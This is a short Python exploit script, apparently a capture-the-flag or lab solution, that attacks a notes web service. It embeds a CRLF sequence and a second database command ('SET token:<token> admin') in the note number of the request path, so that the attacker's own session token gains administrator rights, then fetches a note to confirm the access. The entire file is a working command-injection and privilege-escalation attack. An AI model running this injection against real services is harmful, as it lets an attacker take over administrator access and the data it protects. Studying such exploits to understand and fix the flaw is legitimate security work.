# Injects a second database command after the number of a note: it makes our token the administrator's.
from urllib.parse import quote

from client import ask, log_in

token = log_in()
print(*ask("/notes/" + quote(f"1\r\nSET token:{token} admin"), token))
print(*ask("/notes/1", token))
